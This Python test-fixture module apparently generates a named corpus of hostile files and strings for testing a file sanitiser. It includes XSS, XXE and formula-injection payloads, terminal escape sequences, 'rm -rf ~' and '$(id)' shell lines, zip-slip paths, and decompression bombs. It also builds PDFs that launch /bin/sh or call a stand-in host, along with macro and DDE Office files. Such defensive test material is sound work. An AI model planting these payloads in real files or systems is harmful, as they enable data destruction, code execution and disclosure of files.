"""Files and texts that were made to harm whoever opens them: small, the same each time, each with a name."""

import io
import random
import struct
import zlib
from collections.abc import Callable, Mapping
from typing import Final

from PIL import Image

from tests.privacy.opening_documents import CONTENT, LAUGHS, calling_out, docx, odt, ordinary, zipped
from tests.privacy.photos import corpus as photos
from tests.unit.onion_service.clean.making import plain_photos

SECRET: Final = "SECRET-Itzel"
Given = tuple[bytes, str]
MEBIBYTE: Final = 1 << 20

TEXTS: Final = (
    "\x1b[2J\x1b[31mrojo", "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]8;;http://e.example\x07pulse\x1b]8;;\x07", "\x9b31m", "\x1bc",  # noqa: E501
    "\x1bP$q\x1b\\", "a\rb\x08\x08\x08c", "\x07\x07", "\x00nulo\x00", "\x7f", "\u202etxt.exe\u202c", "\u2066a\u2069\u200f",  # noqa: E501
    "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "|x", "＝1+1", "%0A=1", '=HYPERLINK("http://e.example")',
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=alert(1)>", "javascript:alert(1)",
    "]]><x/>", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "&lt;&#0;&#x1b;", "<![CDATA[", "{{7*7}}${7*7}",
    "../../../../etc/passwd", "/etc/cron.d/x", "C:\\Windows\\x", "CON", "a\u2028b\u2029c", "\ufeff\u200b\u200d\u2060",
    "\U000e0041\U000e0042", "a" + "\u0301" * 900, "\u200d" * 6_000, "[bold red]x[/bold red] :smile:", "\ud800", "﷽" * 400,  # noqa: E501
    "x" * 20_000, "\n" * 5_000, "'; DROP TABLE reports; --", "`rm -rf ~` $(id)", "\ue000\uf8ff", "Ω≈ç√ ０１２ раураl",
)  # fmt: skip


def files() -> dict[str, Given]:
    """Every file, by name, with the media type that its sender claims."""
    found: dict[str, Given] = {}
    for make in (_photos, _pictures, _pdfs, _documents, _archives, _sounds, _scripts, _broken):
        for name, given in make().items():
            assert name not in found
            found[name] = given
    return found


def _photos() -> dict[str, Given]:
    """Photos that tell the place, the device and the person, five of each format."""
    media = {"jpg": "image/jpeg", "png": "image/png", "webp": "image/webp", "gif": "image/gif"}
    named = photos.named_kinds(plain_photos())
    chosen = [name for end in media for name in sorted(one for one in named if one.endswith(f".{end}"))[:5]]
    return {f"photo-{name}": (named[name].photo, media[name.rpartition(".")[2]]) for name in chosen}


def _saved(picture: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    picture.save(out, kind, **options)
    return out.getvalue()


def _author() -> Image.Exif:
    exif = Image.Exif()
    exif[315] = SECRET
    return exif


def _png(width: int, height: int, *chunks: tuple[bytes, bytes], data: bytes | None = None) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    lines = zlib.compress((b"\0" + bytes(-(-width // 8))) * height, 9) if data is None else data
    parts = [(b"IHDR", head), *chunks, (b"IDAT", lines), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body)) for name, body in parts
    )


def _pictures() -> dict[str, Given]:
    """Pictures larger than they look, with other files inside, or of rare sorts."""
    small = Image.linear_gradient("L").convert("RGB").resize((64, 48))
    jpeg, png, gif = _saved(small, "JPEG"), _saved(small, "PNG"), _saved(small, "GIF")
    bomb = zlib.compress(bytes(64 * MEBIBYTE), 1)
    frames = [small.rotate(turn) for turn in (90, 180)]
    archive = zipped({"a.txt": SECRET.encode()})
    return {
        "50-megapixels.png": (_png(8_000, 6_250), "image/png"),
        "50-megapixels.jpg": (_saved(Image.new("L", (8_000, 6_250), 90), "JPEG"), "image/jpeg"),
        "100-megapixels.png": (_png(10_000, 10_000), "image/png"),
        "no-end-of-pixels.png": (_png(2**31 - 1, 2**31 - 1, data=zlib.compress(b"\0")), "image/png"),
        "wide.png": (_png(50_000, 1), "image/png"),
        "less-than-it-says.png": (_png(2_000, 2_000, data=zlib.compress(b"\0")), "image/png"),
        "bomb-in-text.png": (_png(8, 8, (b"zTXt", b"a\0\0" + bomb)), "image/png"),
        "bomb-in-profile.png": (_png(8, 8, (b"iCCP", b"a\0\0" + bomb)), "image/png"),
        "huge.gif": (
            b"GIF89a\xff\xff\xff\xff\x80\0\0" + bytes(6) + b",\0\0\0\0\xff\xff\xff\xff\0\2\1\x44\0;",
            "image/gif",
        ),
        "frames.gif": (_saved(small, "GIF", save_all=True, append_images=frames), "image/gif"),
        "frames.webp": (_saved(small, "WEBP", save_all=True, append_images=frames), "image/webp"),
        "frames.png": (_saved(small, "PNG", save_all=True, append_images=frames), "image/png"),
        "two.mpo.jpg": (_saved(small, "MPO", save_all=True, append_images=frames), "image/jpeg"),
        "author.tiff": (_saved(small, "TIFF", tiffinfo={315: SECRET, 306: "2026:01:02 03:04:05"}), "image/tiff"),
        "packed.tiff": (_saved(Image.new("L", (7_000, 7_000)), "TIFF", compression="tiff_adobe_deflate"), "image/tiff"),
        "author.avif": (_saved(small, "AVIF", exif=_author()), "image/avif"),
        "sixteen.png": (_saved(Image.new("I;16", (9, 9), 4_000), "PNG"), "image/png"),
        "cmyk.jpg": (_saved(small.convert("CMYK"), "JPEG"), "image/jpeg"),
        "zip-behind.jpg": (jpeg + archive, "image/jpeg"),
        "page-behind.png": (png + b"<html><script>alert(1)</script>", "image/png"),
        "script-behind.gif": (gif + b"/*" + SECRET.encode() + b"*/=1;alert(1)", "image/gif"),
        "pdf-behind.jpg": (jpeg + _pdf({}), "application/pdf"),
        "program-behind.png": (png + b"\x7fELF" + bytes(64), "image/png"),
    }


def _pdf(
    catalog: Mapping[str, str], *more: bytes, box: str = "[0 0 99 99]", kids: str = "[3 0 R]", count: int = 1
) -> bytes:
    words = " ".join(f"/{key} {value}" for key, value in catalog.items()).encode()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R %b>>" % words,
        f"<</Type/Pages/Count {count}/Kids{kids}>>".encode(),
        f"<</Type/Page/Parent 2 0 R/MediaBox{box}/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>".encode(),
        b"<</Length 24>>stream\n0 0 1 rg 9 9 50 50 re f \nendstream",
        *more,
    ]
    wire = b"%PDF-1.7\n"
    for number, body in enumerate(objects, start=1):
        wire += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    info = b"<</Author(SECRET-Itzel)/CreationDate(D:20260102030405)>>"
    return wire + b"90 0 obj\n%b\nendobj\ntrailer\n<</Root 1 0 R/Info 90 0 R/Size 91>>\n%%%%EOF\n" % info


def _pdfs() -> dict[str, Given]:
    """Documents that act, call out, never end or hold others."""
    script = "<</S/JavaScript/JS(app.launchURL\\('http://e.example'\\))>>"
    bomb = zlib.compress(zlib.compress(bytes(64 * MEBIBYTE), 1), 1)
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>/Length 5>>stream\n/F Do\nendstream"  # noqa: E501
    packed = (
        b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n%b\nendstream"
    )
    image = b"<</Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 1>>stream\nx\nendstream"  # noqa: E501
    draws = b"<</Length 5>>stream\n/F Do\nendstream"
    made = {
        "script": _pdf({"OpenAction": script}),
        "script-by-name": _pdf({"Names": f"<</JavaScript<</Names[(a){script}]>>>>"}),
        "launch": _pdf({"OpenAction": "<</S/Launch/F(/bin/sh)>>"}),
        "link": _pdf({"OpenAction": "<</S/URI/URI(http://e.example)>>"}),
        "remote": _pdf({"OpenAction": "<</S/GoToR/F(\\\\\\\\e.example\\\\x)/D[0/Fit]>>"}),
        "submits": _pdf({"OpenAction": "<</S/SubmitForm/F<</FS/URL/F(http://e.example)>>>>"}),
        "form": _pdf({"AcroForm": "<</XFA(<xdp/>)/Fields[]>>"}),
        "file-inside": _pdf(
            {"Names": "<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>]>>>>"},
            b"null",
            b"<</Type/EmbeddedFile/Length 12>>stream\nSECRET-Itzel\nendstream",
        ),
        "metadata": _pdf(
            {"Metadata": "6 0 R"}, b"null", b"<</Type/Metadata/Subtype/XML/Length 12>>stream\nSECRET-Itzel\nendstream"
        ),
        "film": _pdf({"Extensions": "<<>>", "RichMedia": "<</Subtype/RichMedia>>"}),
        "large-page": _pdf({}, box="[0 0 9999999 9999999]"),
        "no-page": _pdf({}, box="[0 0 0 0]"),
        "many-pages": _pdf({}, kids=f"[{'3 0 R ' * 3_000}]", count=3_000),
        "loop-of-pages": _pdf({}, kids="[2 0 R]"),
        "loop-of-forms": _pdf({}, form).replace(b"<</Length 24>>stream\n0 0 1 rg 9 9 50 50 re f \nendstream", draws),
        "bomb": _pdf({}, packed % (len(bomb), bomb)).replace(
            b"<</Length 24>>stream\n0 0 1 rg 9 9 50 50 re f \nendstream", draws
        ),
        "large-image": _pdf({}, image).replace(b"<</Length 24>>stream\n0 0 1 rg 9 9 50 50 re f \nendstream", draws),
        "and-zip": _pdf({}) + zipped({"a": SECRET.encode()}),
        "locked": _pdf({}).replace(b"/Size 91", b"/Size 91/Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(x)/P 0>>"),
        "cut": _pdf({})[:120],
        "head": b"%PDF-1.7",
    }
    return {f"{name}.pdf": (wire, "application/pdf") for name, wire in made.items()}


def _documents() -> dict[str, Given]:
    """Office documents: two that may be cleaned, and those that act, call out or grow."""
    outside = b'<Relationship Id="r9" Type="http://x/%b" Target="http://e.example/x" TargetMode="External"/>'
    remote = b'<draw:image xlink:href="http://e.example/x.png" xlink:type="simple" xlink:actuate="onLoad"/>'
    made = {
        "author.docx": docx(),
        "author.odt": odt(),
        "macro.docm": docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0SECRET-Itzel"}),
        "macro.xlsm": zipped({"[Content_Types].xml": CONTENT, "xl/workbook.xml": b"<a/>", "xl/vbaProject.bin": b"x"}),
        "control.pptx": zipped({"[Content_Types].xml": CONTENT, "ppt/x.xml": b"<a/>", "ppt/activeX/a.xml": b"<a/>"}),
        "template.docx": docx(relation=outside % b"attachedTemplate"),
        "picture-outside.docx": docx(relation=outside % b"image"),
        "dde.docx": docx(text=b"</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r><w:r><w:t>"),
        "object.docx": docx({"word/embeddings/oleObject1.bin": b"x"}),
        "laughs.docx": docx(head=LAUGHS, text=b"&j;"),
        "entity.docx": docx(head=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', text=b"&b;"),
        "wide-letters.docx": docx({"word/x.xml": "<!DOCTYPE a>".encode("utf-16")}),
        "bomb.docx": docx({"word/media/a.png": bytes(257 * MEBIBYTE)}),
        "many.docx": docx({f"word/{number}.xml": b"<a/>" for number in range(2_500)}),
        "deep.docx": docx(text=b"<w:r>" * 60_000),
        "basic.odt": odt({"Basic/Standard/Module1.xml": b"<x/>"}),
        "scripts.odt": odt({"Scripts/python/a.py": b"import os"}),
        "picture-outside.odt": odt(text=remote),
        "object.odt": odt({"Object 1/content.xml": b"<x/>"}),
        "cut.docx": docx()[:400],
        **calling_out(),
        **ordinary(),
    }
    return {name: (wire, "application/zip") for name, wire in made.items()}


def _archives() -> dict[str, Given]:
    """Archives that climb, lie about their size, or hold themselves."""
    inner = zipped({"a": bytes(4 * MEBIBYTE)})
    lying = bytearray(docx())
    lying[lying.rindex(b"PK\1\2") + 24 : lying.rindex(b"PK\1\2") + 28] = b"\xff\xff\xff\x7f"
    made = {
        "climbs.zip": zipped({"../../../../tmp/left": b"x", "/etc/cron.d/left": b"x", "..\\left": b"x"}),
        "climbs.docx": docx({"../../../../../../tmp/left.xml": b"<a/>", "/tmp/left.xml": b"<a/>"}),
        "lies.docx": bytes(lying),
        "in-each-other.zip": zipped({f"{number}.zip": inner for number in range(10)}),
        "acts-by-name.zip": zipped({"\x1b[31mrojo\u202e.txt": b"x", "=1+1.csv": b"x", "<script>.html": b"x"}),
        "empty.zip": b"PK\x05\x06" + bytes(18),
    }
    return {name: (wire, "application/zip") for name, wire in made.items()}


def _sounds() -> dict[str, Given]:
    """Sound with names, places and pictures in it."""
    frames = (b"\xff\xfb\x90\x00" + bytes(413)) * 20
    tag = b"TPE1\0\0\0\x0e\0\0\x03SECRET-Itzel\0"
    names = b"LIST" + struct.pack("<I", 24) + b"INFOIART" + struct.pack("<I", 12) + SECRET.encode()
    body = b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8_000, 16_000, 2, 16) + names
    body += b"data" + struct.pack("<I", 800) + bytes(800)
    return {
        "author.mp3": (b"ID3\x04\0\0\0\0\0" + bytes([len(tag)]) + tag + frames, "audio/mpeg"),
        "old-author.mp3": (frames + b"TAG" + SECRET.encode().ljust(125, b"\0"), "audio/mpeg"),
        "long-tag.mp3": (b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + frames, "audio/mpeg"),
        "author.wav": (b"RIFF" + struct.pack("<I", len(body)) + body, "audio/wav"),
        "long.wav": (b"RIFF\xff\xff\xff\xffWAVEfmt \xff\xff\xff\xff", "audio/wav"),
        "comments.flac": (b"fLaC\x84\0\0\x20" + SECRET.encode() * 9, "audio/flac"),
    }


def _scripts() -> dict[str, Given]:
    """What says it is a text or a photo, and is neither, or acts when it is shown."""
    made = {
        "page.html": b"<html><script>alert(1)</script>",
        "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "laughs.xml": b'<?xml version="1.0"?>' + LAUGHS + b"<a>&j;</a>",
        "formulas.csv": b"a,=cmd|' /C calc'!A0\n+1,@SUM(1)\n",
        "colours.txt": "\x1b]0;título\x07\x1b[2J\u202efdp.exe".encode(),
        "program.sh": b"#!/bin/sh\nrm -rf ~\n",
        "entry.desktop": b"[Desktop Entry]\nExec=sh -c 'id'\nType=Application\n",
        "wide.txt": "hola".encode("utf-16"),
        "long.txt": b"a" * (2 * MEBIBYTE),
        "marks.txt": ("a" + "\u0301" * 200_000).encode(),
        "blank.txt": "\u200b\u200b".encode(),
    }
    as_text = {name: (wire, "text/plain") for name, wire in made.items()}
    object_in = b"{\\rtf1{\\object\\objdata 0105}}"
    return as_text | {
        "page.jpg": (made["page.html"], "image/jpeg"),
        "object.rtf": (object_in, "application/rtf"),
        "macro.doc": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "application/x-ole-storage"),
        "program.bin": (b"\x7fELF\2\1\1" + bytes(99), "application/octet-stream"),
    }


def _broken() -> dict[str, Given]:
    """The beginning of each kind and then noise; halves of whole files; noise alone."""
    chance = random.Random(20_260_102)
    small = Image.linear_gradient("L").convert("RGB").resize((64, 48))
    noise: Callable[[], bytes] = lambda: chance.randbytes(2_048)  # noqa: E731
    begins = {
        "image/jpeg": b"\xff\xd8\xff", "image/png": b"\x89PNG\r\n\x1a\n", "image/gif": b"GIF89a", "image/webp": b"RIFF\0\4\0\0WEBP",  # noqa: E501
        "application/pdf": b"%PDF-1.4\n", "application/zip": b"PK\3\4", "image/tiff": b"II*\0", "audio/mpeg": b"ID3",
        "audio/ogg": b"OggS", "audio/flac": b"fLaC", "audio/wav": b"RIFF\0\4\0\0WAVE", "video/x-msvideo": b"RIFF\0\4\0\0AVI ",  # noqa: E501
        "video/mp4": b"\0\0\0\x18ftypisom", "video/webm": b"\x1aE\xdf\xa3", "image/heic": b"\0\0\0\x18ftypheic",
        "image/avif": b"\0\0\0\x18ftypavif", "application/x-ole-storage": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
    }  # fmt: skip
    found = {f"noise-{media.replace('/', '-')}": (head + noise(), media) for media, head in begins.items()}
    for kind, media in (("JPEG", "image/jpeg"), ("PNG", "image/png"), ("GIF", "image/gif"), ("WEBP", "image/webp")):
        whole = _saved(small, kind)
        found[f"half.{kind.lower()}"] = (whole[: len(whole) // 2], media)
    found |= {f"noise-{number}": (noise(), "application/octet-stream") for number in range(3)}
    return found | {"one-byte": (b"\xff", "image/jpeg"), "two-bytes": (b"\xff\xfb", "text/plain")}
